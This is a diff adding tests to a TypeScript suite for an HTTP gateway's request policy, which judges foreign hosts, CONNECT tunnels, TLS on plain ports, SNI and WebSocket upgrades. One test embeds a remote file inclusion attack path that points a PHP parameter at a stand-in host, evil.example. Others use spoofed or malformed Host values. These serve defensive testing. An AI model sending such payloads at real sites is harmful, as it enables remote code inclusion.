@@ -8,6 +8,7 @@ import type { HttpRequest } from '../src/wire/http-request.ts';
 import { parseRequestHead } from '../src/wire/request-head.ts';
 import { corpus } from './corpus/corpus.ts';
 import { utf8 } from './corpus/request.ts';
+import { clientHello } from './support/client-hello.ts';
 import { compiled, corpusPolicy } from './support/policy.ts';
 import { latin1, nearAuthority, nearTarget } from './wire/arbitraries.ts';
 
@@ -325,6 +326,17 @@ sites:
     assert.equal(withSite(request('//evil.example/', ...own)).action, 'flag');
     assert.equal(withSite(request('/', 'Host', 'evil.example')).action, 'block');
   });
+
+  test('without a Host those of the first site hold in HTTP/1.0; with a bad or missing one the global policy', () => {
+    const { policy: mixed } = compiled(`
+sites:
+  - hosts: [www.example.net]
+    backend: http://127.0.0.1:1
+    policy: { preset: observe, rules: { url-in-path: block } }`);
+    assert.equal(judge({ ...request('//evil.example/'), version: '1.0' }, mixed).action, 'block');
+    for (const fields of [[], ['Host', ''], ['Host', 'a b'], ['Host', 'a,b'], ['Host', 'a@www.example.net']])
+      assert.equal(judge(request('/', ...fields), mixed).action, 'block', fields.join());
+  });
 });
 
 suite('the text and evidence of a signal', () => {
@@ -367,6 +379,22 @@ suite('the text and evidence of a signal', () => {
     );
   });
 
+  test('of two destinations the first is named', () => {
+    const tunnel = ['Connection', 'Upgrade', 'Upgrade', 'connect-udp'];
+    const { rule, wanted } = judge(request('/', 'Host', 'www.example.com', ...tunnel), policy);
+    assert.deepEqual([rule, wanted?.host], ['host-foreign', 'www.example.com']);
+  });
+
+  test('the destination of TLS on a plain port is the name in its hello', async () => {
+    const verdict = judgeFirstBytes(await clientHello('www.example.com'), policy);
+    assert.deepEqual([verdict?.rule, verdict?.wanted?.host], ['tls-on-plaintext', 'www.example.com']);
+  });
+
+  test('a name in the TLS hello is a signal only if it is none of ours', () => {
+    const judged = (sni: string) => judge({ ...request('/', ...own), sni }, policy).rule;
+    assert.deepEqual([judged('www.example.net'), judged('www.example.com')], [null, 'sni-foreign']);
+  });
+
   test('the destination in SIP, RTSP and ICAP is the URI of the request', () => {
     for (const line of ['OPTIONS sip:100@192.0.2.7 SIP/2.0', 'DESCRIBE rtsp://192.0.2.7/live RTSP/1.0'])
       assert.equal(
@@ -380,6 +408,55 @@ suite('the text and evidence of a signal', () => {
 test('the verdict on a blocked request has no path and no host to forward', () => {
   const { path, host, upgrade, strip } = judge(request('http://www.example.com/', ...own), policy);
   assert.deepEqual([path, host, upgrade, strip], ['', '', false, []]);
+});
+
+test('the path of a refused request that names no destination still tells what the sender is after', () => {
+  const attack = '/index.php?mosConfig_absolute_path=http://evil.example/x.txt';
+  const { rule, wanted } = judge({ ...request(attack, ...own), method: 'TRACE' }, policy);
+  assert.deepEqual([rule, wanted?.host, wanted?.path], ['trace', '', attack]);
+});
+
+test('CONNECT is one signal, over HTTP/1 and HTTP/2, and its target is not read as that of another method', () => {
+  const over1 = judge({ ...request('www.example.com:443', ...own), method: 'CONNECT' }, policy);
+  const h2 = { authority: 'www.example.com:443', scheme: '', protocol: null };
+  const over2 = judge({ ...request(''), method: 'CONNECT', version: '2.0', h2 }, policy);
+  for (const { signals, wanted } of [over1, over2])
+    assert.deepEqual(
+      [signals.map(({ rule }) => rule), wanted?.host, wanted?.port],
+      [['connect'], 'www.example.com', 443],
+    );
+});
+
+test('an extended CONNECT for anything but WebSocket counts, whatever fields it has', () => {
+  const counted = (protocol: string): boolean | undefined =>
+    judge(
+      {
+        ...request('/', 'sec-fetch-mode', 'websocket'),
+        method: 'CONNECT',
+        version: '2.0',
+        h2: { authority: 'static.example.net', scheme: 'https', protocol },
+      },
+      policy,
+    ).signals.find(({ rule }) => rule === 'extended-connect')?.counts;
+  assert.deepEqual([counted('connect-udp'), counted('websocket')], [true, false]);
+});
+
+test('a WebSocket by Upgrade passes if its site has WebSocket, and only GET over HTTP/1.1 asks for one', () => {
+  const handshake = (host: string): HttpRequest =>
+    request('/chat', 'Host', host, 'Connection', 'Upgrade', 'Upgrade', 'websocket');
+  const open = judge(handshake('gate.example.net'), policy);
+  assert.deepEqual([open.action, open.upgrade, open.strip], ['allow', true, []]);
+  const options = request('/chat', 'Host', 'gate.example.net', 'Upgrade', 'websocket');
+  for (const other of [
+    handshake('static.example.net'),
+    { ...handshake('gate.example.net'), method: 'POST' },
+    { ...handshake('gate.example.net'), version: '1.0' },
+    options,
+  ]) {
+    const { action, upgrade, strip, rule } = judge(other, policy);
+    assert.deepEqual([action, upgrade, strip, rule], ['flag', false, [strip[0]], 'upgrade-unknown']);
+    assert.equal(other.rawHeaders[strip[0]!], 'Upgrade');
+  }
 });
 
 test('a WebSocket by extended CONNECT passes if its site has WebSocket, and is refused otherwise', () => {
